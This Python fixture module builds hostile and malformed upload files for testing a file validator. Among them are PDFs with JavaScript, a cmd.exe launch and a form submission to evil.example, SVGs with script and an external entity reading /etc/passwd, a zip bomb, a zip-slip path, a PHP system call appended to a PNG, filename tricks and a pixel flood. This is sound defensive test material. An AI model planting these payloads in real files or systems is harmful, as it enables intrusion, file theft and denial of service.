"""Files that people send: honest ones, and the ones that somebody sends on purpose."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from PIL import Image

GPS_IFD, MAKE = 0x8825, 0x010F
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def photo(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    """A small picture."""
    paper = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(paper, kind, **options)
    return paper.getvalue()


def photo_with_a_place() -> bytes:
    """A picture that says where it was taken, and by which camera."""
    exif = Image.Exif()
    exif[MAKE] = "SECRETCAMERA"
    exif[GPS_IFD] = {1: "N", 2: (52.0, 31.0, 12.0)}
    return photo(exif=exif)


def pdf(pages: int = 1, **options: object) -> bytes:
    """A plain PDF of blank pages."""
    return _saved(_blank(pages), **options)


def pdf_with(change: str) -> bytes:
    """A PDF with one evil thing in it."""
    paper = _blank(1)
    name, dictionary, array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
    script = dictionary(S=name.JavaScript, JS="app.alert(1)")
    if change == "javascript":
        paper.Root.OpenAction = script
    elif change == "named script":
        paper.Root.Names = dictionary(JavaScript=dictionary(Names=array(["x", paper.make_indirect(script)])))
    elif change == "page action":
        paper.pages[0].obj.AA = dictionary(O=dictionary(S=name.JavaScript, JS=paper.make_stream(b"app.alert(1)")))
    elif change == "launch":
        paper.Root.OpenAction = dictionary(S=name.Launch, F="cmd.exe")
    elif change == "submit":
        paper.Root.OpenAction = dictionary(S=name.SubmitForm, F="http://evil.example/")
    elif change == "embedded":
        paper.attachments["evil.exe"] = b"MZ"
    elif change == "rich media":
        paper.pages[0].obj.Annots = array([paper.make_indirect(dictionary(Type=name.Annot, Subtype=name.RichMedia))])
    elif change == "form program":
        paper.Root.AcroForm = dictionary(XFA=paper.make_stream(b"<xdp/>"))
    elif change == "deep":
        nest = array([])
        for _number in range(60):
            nest = array([nest])
        paper.Root.Deep = nest
    return _saved(paper)


def archive(**files: bytes) -> bytes:
    paper = io.BytesIO()
    with zipfile.ZipFile(paper, "w", zipfile.ZIP_DEFLATED) as bag:
        for name, content in files.items():
            bag.writestr(name, content)
    return paper.getvalue()


def pixel_flood() -> bytes:
    """A few hundred bytes that say they are 50,000 by 50,000 pixels."""
    honest = bytearray(photo("PNG", (1, 1)))
    honest[16:24] = (50_000).to_bytes(4, "big") * 2
    honest[29:33] = zlib.crc32(bytes(honest[12:29])).to_bytes(4, "big")
    return bytes(honest)


def hostile_files() -> Iterator[tuple[str, str, bytes]]:
    """What it is, the name it comes under, its bytes. None of them may be kept."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    entity = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    page = b"<html><script>alert(1)</script></html>"
    bomb = archive(**{"a.txt": b"0" * 3_000_000})
    yield "svg with a script", "drawing.svg", svg
    yield "svg with an entity", "drawing.svg", entity
    yield "svg that says it is a png", "drawing.png", svg
    yield "html that says it is a pdf", "receipt.pdf", page
    yield "html", "receipt.html", page
    yield "program", "photo.exe", b"MZ\x90\x00" + b"\x00" * 200
    yield "program that says it is a jpeg", "photo.jpg", b"MZ\x90\x00" + b"\x00" * 200
    yield "two endings, the last one bad", "photo.jpg.exe", photo()
    yield "two endings, the first one bad", "photo.php.jpg", photo()
    yield "html hidden before jpg", "photo.html.jpg", photo()
    yield "no ending", "photo", photo()
    yield "only an ending", ".jpg", photo()
    yield "name with an override", "photo\u202egpj.exe", photo()
    yield "name of 255 bytes", "a" * 251 + ".jpg", photo()
    yield "pdf with a script", "receipt.pdf", pdf_with("javascript")
    yield "pdf with a named script", "receipt.pdf", pdf_with("named script")
    yield "pdf with a script on its page", "receipt.pdf", pdf_with("page action")
    yield "pdf that starts a program", "receipt.pdf", pdf_with("launch")
    yield "pdf that sends a form", "receipt.pdf", pdf_with("submit")
    yield "pdf with a file in it", "receipt.pdf", pdf_with("embedded")
    yield "pdf with rich media", "receipt.pdf", pdf_with("rich media")
    yield "pdf with a form program", "receipt.pdf", pdf_with("form program")
    yield "pdf that is very deep", "receipt.pdf", pdf_with("deep")
    yield "pdf with a password", "receipt.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "pdf locked without a password", "receipt.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))
    yield "pdf of too many pages", "receipt.pdf", pdf(101)
    yield "pdf cut off", "receipt.pdf", pdf()[:-60]
    yield "pdf with a zip behind it", "receipt.pdf", pdf() + archive(x=b"1")
    yield "pdf with html before it", "receipt.pdf", page + pdf()
    yield "pdf with html behind it", "receipt.pdf", pdf() + page
    yield "pdf of its first line only", "receipt.pdf", b"%PDF-1.7\n%%EOF"
    yield "zip bomb that says it is a png", "photo.png", bomb
    yield "zip", "photos.zip", bomb
    yield "zip slip", "photos.zip", archive(**{"../../etc/passwd": b"x"})
    yield "document with macros", "letter.docm", archive(**{"word/vbaProject.bin": b"x"})
    yield "document that says it is a pdf", "letter.pdf", archive(**{"word/document.xml": b"<w/>"})
    yield "table", "rows.csv", b"=1+1,2\n" * 1000
    yield "virus test", "virus.com", EICAR
    yield "virus test that says it is a pdf", "virus.pdf", EICAR
    yield "empty", "photo.jpg", b""
    yield "jpeg cut off", "photo.jpg", photo(size=(300, 300))[:400]
    yield "png cut off", "photo.png", photo("PNG", (300, 300))[:90]
    yield "png that says it is a jpeg", "photo.jpg", photo("PNG")
    yield "jpeg that says it is a pdf", "receipt.pdf", photo()
    yield "pdf that says it is a jpeg", "photo.jpg", pdf()
    yield "pixel flood", "photo.png", pixel_flood()
    yield "only the first bytes of a png", "photo.png", b"\x89PNG\r\n\x1a\n"
    yield "only the first bytes of a gif", "photo.gif", b"GIF89a<script>alert(1)</script>"
    yield "riff that is no webp", "photo.webp", b"RIFF\x24\x00\x00\x00WAVEfmt "


def two_in_one() -> Iterator[tuple[str, str, bytes]]:
    """Honest pictures with a second file inside. They may be kept, if nothing of the second one is."""
    script = b"<script>alert(1)</script>"
    yield "jpeg with a zip behind it", "photo.jpg", photo() + archive(evil=b"EVIL" * 100)
    yield "png with a program behind it", "photo.png", photo("PNG") + b"<?php system('id'); ?>"
    yield "gif with a script behind it", "photo.gif", photo("GIF") + b"*/=1;alert(1)//" + script
    yield "jpeg with a place in it", "photo.jpg", photo_with_a_place()
    yield "jpeg with a script in its comment", "photo.jpg", photo(comment=script)
    yield "webp", "photo.webp", photo("WEBP")


def _blank(pages: int) -> pikepdf.Pdf:
    paper = pikepdf.new()
    for _number in range(pages):
        paper.add_blank_page(page_size=(200, 300))
    return paper


def _saved(paper: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    paper.save(out, **options)
    return out.getvalue()
